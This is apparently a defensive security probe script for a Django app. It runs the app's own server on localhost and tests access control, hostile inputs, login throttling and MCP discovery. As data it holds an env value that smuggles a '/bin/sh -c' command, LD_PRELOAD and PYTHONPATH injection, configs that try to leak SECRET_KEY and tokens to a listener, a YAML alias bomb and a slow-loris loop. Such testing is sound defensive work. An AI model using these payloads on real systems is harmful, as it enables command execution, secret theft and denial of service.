"""The attack probe, rerun against a real worker as production runs it (``python -m
config.server``, DEBUG off, collectstatic not needed: the test settings' static files).

Principals × every method-route of the access table, plus hostile inputs; prints the counts and
every finding (an answer a principal should not get: a 2xx without the right, a 5xx, a HEAD body,
a body over the limit read). Asserts nothing; exit status 1 when there are findings.

Issue 34's cases (:func:`probe_issue_34`): an editor's discovery env tricks against a real
allowlisted stdio MCP server (``tests/discovery/mcp_servers.py``, official SDK) and credential
leaks to a real HTTP listener on 127.0.0.1 that records every header it gets; a tool id with `/`
and its timeouts on the Tools pages; a suite alias bomb and deep nesting; slow-loris headers.
"""

from __future__ import annotations

import json
import os
import re
import secrets
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))
STDIO_ARGV = (sys.executable, str(ROOT / "tests" / "discovery" / "mcp_servers.py"), "mixed")
HEADER_TIMEOUT_S = 3


def _listener() -> tuple[ThreadingHTTPServer, list[dict[str, str]]]:
    """A real HTTP listener on 127.0.0.1 recording the headers of every request (answers 404)."""
    seen: list[dict[str, str]] = []

    class Record(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            seen.append(dict(self.headers.items()))
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_GET = do_POST = _answer

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, seen


def probe_issue_34(
    http: Any, port: int, work: Path, editor: dict[str, str], writer: dict[str, str]
) -> tuple[list[str], int]:
    """Issue 34's payloads against the running server; the findings and how many requests."""
    from policy.services import draft_change
    from tests.observe.live_support import HandRound

    findings: list[str] = []
    sent = 0
    listener, seen = _listener()
    url = f"http://127.0.0.1:{listener.server_address[1]}"
    pwned = work / "pwned.txt"
    stdio = {"command": STDIO_ARGV[0], "args": list(STDIO_ARGV[1:])}
    services: dict[str, Any] = {
        "evilenv": {
            **stdio,
            "env": {
                "PYTHONWARNINGS": "all:0:antigravity.x:0:0",
                "BROWSER": f"/bin/sh -c 'id > {pwned}' #%s",
            },
        },
        "ldpreload": {**stdio, "env": {"LD_PRELOAD": str(work / "evil.so")}},
        "pythonpath": {**stdio, "env": {"PYTHONPATH": str(work)}},
        "leakbearer": {
            "transport": "http",
            "url": f"{url}/mcp",
            "auth": {"type": "bearer", "env": "SECRET_KEY"},
        },
        "leakheader": {
            "transport": "http",
            "url": f"{url}/mcp",
            "auth": {"type": "header", "header": "X-Leak", "env": "TRAITDECK_KDCUBE_TOKEN"},
        },
        "leaksse": {
            "transport": "sse",
            "url": f"{url}/sse",
            "auth": {"type": "api_key", "env": "DATABASE_URL"},
        },
    }

    def edit(doc: dict[str, Any]) -> dict[str, Any]:
        consumer = doc["surfaces"]["as_consumer"]
        consumer["mcp"] = {"services": services}
        # An agent of its own: the route matrix before may have renamed or removed `main`.
        tools = [{"kind": "mcp", "server_id": sid, "alias": sid} for sid in services]
        consumer["agents"]["probe34"] = {"tools": tools}
        return doc

    draft_change(edit=edit, base_revision=None)
    for server_id in services:
        response = http.post(f"/api/v1/agents/probe34/mcp/{server_id}/discover", headers=editor)
        sent += 1
        if response.status_code != 422:
            findings.append(f"discovery of {server_id} answered {response.status_code}, not 422")
    if pwned.exists():
        findings.append(f"an editor ran a command through a stdio env: {pwned.read_text()!r}")
    secret_values = [os.environ["SECRET_KEY"], os.environ["TRAITDECK_KDCUBE_TOKEN"]]
    secret_values.append(os.environ["DATABASE_URL"])
    if any(value in json.dumps(seen) for value in secret_values):
        findings.append("a server environment variable reached the listener")
    listener.shutdown()
    # A tool id with `/` and 25 of its timeouts: the Tools pages and their alerts.
    hand = HandRound(turn_id="evil-slash").started()
    for index in range(25):
        hand.timeout(index, "evil/slash", None)
    http.post("/api/v1/events", headers=writer, json={"events": hand.events})
    for page in ("/live/tools/", "/live/tools/?partial=table", "/live/tools/?partial=alerts"):
        sent += 2
        status = http.get(page, headers=editor).status_code
        if status != 200:
            findings.append(f"{page} answered {status} after tool evil/slash")
    tool_page = "/live/tools/main/evil%252Fslash/"
    if http.get(tool_page, headers=editor).status_code != 200:
        findings.append(f"{tool_page} does not show tool evil/slash")
    # Suites: a 540-byte alias bomb, deep nesting, a deep added round; a deep source_command.
    bomb = "agent: main\na: &a [" + ", ".join(["xxxxxxxxxx"] * 6) + "]\n"
    for name, prev in zip("bcde", "abcd", strict=True):
        bomb += f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 10) + "]\n"
    bomb += (
        "cases:\n  - name: bomb\n    round: {turn_id: t, iteration: 0, max_actions: 1, attempts:"
        " [[{action: call_tool, tool_id: workspace_jobs.search, params: {q: *e}}]]}\n"
        "    expect: [{index: 0}]\n"
    )
    forms = [
        ("/policy/agents/probe34/suite/", {"op": "import", "suite": bomb}),
        ("/policy/agents/probe34/suite/", {"op": "import", "suite": "[" * 5000}),
        ("/policy/agents/probe34/suite/", {"op": "add", "name": "deep", "round": "[" * 100_000}),
        ("/policy/agents/probe34/connections/0/mcp-server/", {"source_command": "[" * 100_000}),
    ]
    for path, data in forms:
        started = time.monotonic()
        response = http.post(path, headers=editor, data=data)
        sent += 1
        seconds = time.monotonic() - started
        if response.status_code != 422 or seconds > 5:
            findings.append(
                f"POST {path} {str(data)[:40]}: {response.status_code} in {seconds:.1f} s"
            )
    # Slow-loris: 20 connections trickling header bytes are closed at the header deadline.
    conns = [socket.create_connection(("127.0.0.1", port)) for _ in range(20)]
    started = time.monotonic()
    open_conns = list(conns)
    while open_conns and time.monotonic() - started < HEADER_TIMEOUT_S + 15:
        for conn in list(open_conns):
            try:
                conn.sendall(b"X")
                conn.settimeout(0.01)
                if conn.recv(100) is not None:
                    open_conns.remove(conn)
            except TimeoutError:
                pass
            except OSError:
                open_conns.remove(conn)
        time.sleep(0.5)
    sent += len(conns)
    for conn in conns:
        conn.close()
    if open_conns:
        findings.append(
            f"{len(open_conns)} slow-loris connections still open after {HEADER_TIMEOUT_S + 15} s"
        )
    return findings, sent


def main() -> int:
    work = Path(tempfile.mkdtemp(prefix="traitdeck-probe-"))
    # The test settings (plain static files), with the login limit on as in production.
    (work / "probe_settings.py").write_text(
        "from config.settings_test import *  # noqa: F403\nTRAITDECK_LOGIN_MAX_ATTEMPTS = 10\n"
    )
    sys.path.insert(0, str(work))
    env = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join([str(work), str(ROOT)]),
        "DJANGO_SETTINGS_MODULE": "probe_settings",
        "SECRET_KEY": secrets.token_urlsafe(50),
        "DEBUG": "0",
        "ALLOWED_HOSTS": "127.0.0.1",
        "DATABASE_URL": f"sqlite:///{work}/db.sqlite3",
        # Issue 34: the allowlisted stdio server and host, and a secret worth stealing.
        "TRAITDECK_MCP_STDIO_COMMANDS": json.dumps([list(STDIO_ARGV)]),
        "TRAITDECK_MCP_HTTP_HOSTS": "127.0.0.1",
        "TRAITDECK_KDCUBE_TOKEN": "kdcube-canary-" + secrets.token_hex(8),
        "TRAITDECK_HEADER_TIMEOUT_S": str(HEADER_TIMEOUT_S),
    }
    os.environ.update(env)
    import django

    django.setup()
    import httpx
    from django.core.management import call_command
    from django.test import Client

    from accounts.access import API, PAGES, PUBLIC, TOKEN, TOKENS
    from accounts.models import Scope
    from accounts.tokens import runtime_token_create, runtime_token_revoke
    from tests.conftest import make_user

    call_command("migrate", verbosity=0)
    call_command("load_sample_policy", stdout=open(os.devnull, "w"))  # noqa: SIM115
    sessions: dict[str, str] = {}
    for role in ("viewer", "editor", "publisher", "superuser", None):
        client = Client()
        client.force_login(make_user(f"probe-{role}", role))
        sessions[str(role)] = client.cookies["sessionid"].value
    tokens = {s: runtime_token_create(name=f"p-{s}", scopes=[s]).secret for s in Scope.values}
    revoked = runtime_token_create(name="p-revoked", scopes=list(Scope.values)).secret
    runtime_token_revoke(name="p-revoked")
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    log = (work / "server.log").open("w")
    server = subprocess.Popen(  # noqa: S603
        [sys.executable, "-m", "config.server", "-b", "127.0.0.1", "-p", str(port)]
        + ["config.asgi:application"],
        cwd=ROOT,
        env=env,
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    base = f"http://127.0.0.1:{port}"
    findings: list[str] = []
    count = Counter[str]()
    try:
        for _ in range(300):
            try:
                httpx.get(f"{base}/api/v1/health", timeout=1)
                break
            except httpx.HTTPError:
                time.sleep(0.1)
        http = httpx.Client(base_url=base, timeout=30)
        fill = {"agent": "main", "index": "0", "key": "search", "number": "1"}
        fill |= {"turn_id_and_iteration": "t/0", "server_id": "browser"}
        api_routes = [
            (m, re.sub(r"\{(\w+)\}", lambda x: fill[x.group(1)], p), r, (m, p))
            for (m, p), r in API.items()
        ]
        page_urls = {
            "overview": "/",
            "policy:agents": "/policy/",
            "policy:agent": "/policy/agents/main/",
            "policy:import": "/policy/import/",
            "policy:publish": "/policy/publish/",
            "policy:impact": "/policy/impact/",
            "observe:history": "/live/history/",
            "audit:log": "/audit/",
            "accounts:tokens": "/tokens/",
            "api:openapi-json": "/api/openapi.json",
            "policy:diff": "/policy/diff/",
            "policy:versions": "/policy/versions/",
        }
        principals: dict[str, dict[str, str]] = {
            "anonymous": {},
            "bearer x": {"Authorization": "Bearer x"},
            "basic": {"Authorization": "Basic dXNlcjpwYXNz"},
            "revoked": {"Authorization": f"Bearer {revoked}"},
            **{f"token {s}": {"Authorization": f"Bearer {t}"} for s, t in tokens.items()},
            **{
                f"session {r}": {
                    "Cookie": f"sessionid={sid}; csrftoken={'c' * 32}",
                    "X-CSRFToken": "c" * 32,
                    "Origin": base,
                }
                for r, sid in sessions.items()
            },
            "foreign origin": {
                "Cookie": f"sessionid={sessions['superuser']}; csrftoken={'c' * 32}",
                "X-CSRFToken": "c" * 32,
                "Origin": "https://attacker.example",
            },
        }
        rank = {
            "viewer": 1,
            "editor": 2,
            "editor-to-apply": 1,
            "publisher": 3,
            "superuser": 4,
            "any-user": 0,
            "docs": 1,
        }
        level = {
            "session viewer": 1,
            "session editor": 2,
            "session publisher": 3,
            "session superuser": 4,
            "session None": 0,
        }
        for name, headers in principals.items():
            for method, url, role, key in api_routes:
                response = http.request(method, url, headers=headers, content="{}", params=None)
                count["api"] += 1
                status = response.status_code
                if status >= 500:
                    findings.append(f"{name} {method} {url}: {status}")
                if not 200 <= status < 300 or role == PUBLIC:
                    continue
                scope = TOKENS.get(key)
                if name.startswith("token "):
                    ok = scope in ("*", name.removeprefix("token "))
                elif name in level:
                    ok = role != TOKEN and level[name] >= rank.get(role, 9)
                else:
                    ok = False  # anonymous, bogus, revoked, foreign origin (writes)
                    if name == "foreign origin" and method == "GET":
                        ok = True
                if not ok:
                    findings.append(f"{name} got {status} on {method} {url} (table: {role})")
            for view, url in page_urls.items():
                response = http.get(url, headers=headers)
                count["pages"] += 1
                if response.status_code >= 500:
                    findings.append(f"{name} GET {url}: {response.status_code}")
                role = PAGES[view].get("GET", PAGES[view].get("*"))
                outsider = name not in level and name != "foreign origin"
                if 200 <= response.status_code < 300 and role != PUBLIC and outsider:
                    findings.append(f"{name} got {response.status_code} on page {url}")
        admin = principals["session superuser"]
        hostile = [
            ("GET", f"/policy/diff/?from={'9' * 5000}", None),
            ("GET", f"/api/v1/versions/diff?from={'9' * 5000}", None),
            ("GET", f"/policy/impact/?limit={'9' * 5000}", None),
            ("GET", f"/policy/impact/?chunk={'9' * 5000}", None),
            (
                "POST",
                "/api/v1/agents/main/connections",
                json.dumps(
                    {
                        "kind": "mcp",
                        "server_id": "x",
                        "tool_execution": {"s": {"timeout_s": 10**400}},
                    }
                ),
            ),
            (
                "POST",
                "/api/v1/policy/validate",
                "surfaces: {as_consumer: {agents: {main: {tools: [{kind: mcp, server_id: s,"
                " tool_execution: {t: {timeout_s: 0b1" + "0" * 2000 + "}}}]}}}}",
            ),
            ("POST", "/api/v1/policy/import?dry_run=true", "a: " + ":".join(["59"] * 400)),
        ]
        for method, url, body in hostile:
            kind = (
                "application/yaml" if "validate" in url or "import" in url else "application/json"
            )
            response = http.request(
                method, url, headers={**admin, "Content-Type": kind}, content=body
            )
            count["inputs"] += 1
            if response.status_code >= 500:
                findings.append(f"hostile {method} {url[:60]}: {response.status_code}")
        writer = {"Authorization": f"Bearer {tokens['events:write']}"}
        for turn in ("nl\nturn", "..", "t\t1", "\x7f"):
            event = {
                "event_id": secrets.token_hex(8),
                "ts": "2026-11-29T18:00:00Z",
                "agent": "main",
                "turn_id": turn,
                "iteration": 0,
                "type": "round.started",
                "max_actions": 2,
            }
            answer = http.post("/api/v1/events", headers=writer, json={"events": [event]}).json()
            count["inputs"] += 1
            if answer.get("accepted"):
                findings.append(f"ingest accepted turn_id {turn!r}")
        for url in ("/api/v1/rounds", "/policy/publish/", "/policy/impact/"):
            count["inputs"] += 1
            if http.get(url, headers=admin).status_code != 200:
                findings.append(f"{url} broken after the hostile inputs")
        for path in ("/api/openapi.json", "/api/v1/health", "/policy/"):
            with socket.create_connection(("127.0.0.1", port)) as conn:
                cookie = admin["Cookie"]
                conn.sendall(
                    f"HEAD {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: {cookie}\r\n"
                    "Connection: close\r\n\r\n".encode()
                )
                raw = b""
                while data := conn.recv(65536):
                    raw += data
            count["inputs"] += 1
            head, _, rest = raw.partition(b"\r\n\r\n")
            if not head.startswith(b"HTTP/1.1 200") or rest:
                findings.append(f"HEAD {path}: {head[:20]!r} + {len(rest)} body bytes")
        browser = httpx.Client(base_url=base, timeout=30)
        page = browser.get("/accounts/login/").text
        csrf = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)
        form_token = csrf.group(1) if csrf else ""
        for variant in ("probe-viewer", "ｐｒｏｂｅ－ｖｉｅｗｅｒ", "probe-viewer "):
            for _ in range(11 if variant == "probe-viewer" else 1):
                response = browser.post(
                    "/accounts/login/",
                    data={
                        "username": variant,
                        "password": "wrong",
                        "csrfmiddlewaretoken": form_token,
                    },
                    headers={
                        "X-Forwarded-For": f"203.0.113.{secrets.randbelow(250)}",
                        "Origin": base,
                        "Referer": f"{base}/accounts/login/",
                    },
                )
                count["logins"] += 1
            if variant != "probe-viewer" and response.status_code != 429:
                findings.append(f"login as {variant!r} not throttled: {response.status_code}")
        editor = principals["session editor"]
        found, sent = probe_issue_34(http, port, work, editor, writer)
        findings += found
        count["issue 34"] += sent
        with socket.create_connection(("127.0.0.1", port)) as conn:
            conn.sendall(
                b"POST /api/v1/events HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                b"Content-Length: 104857600\r\n\r\n"
            )
            first = conn.recv(200)
        count["inputs"] += 1
        if not first.startswith(b"HTTP/1.1 413"):
            findings.append(f"100 MB body not refused on arrival: {first[:40]!r}")
        if "Traceback" in (work / "server.log").read_text():
            findings.append("the server logged a traceback")
    finally:
        server.terminate()
        server.wait(timeout=10)
    total = sum(count.values())
    print(
        f"requests: {total} ({dict(count)}); principals: {len(principals)};"
        f" API method-routes: {len(api_routes)}; pages: {len(page_urls)}"
    )
    print(f"findings: {len(findings)}")
    for finding in findings:
        print(" -", finding)
    return 1 if findings else 0


if __name__ == "__main__":
    raise SystemExit(main())
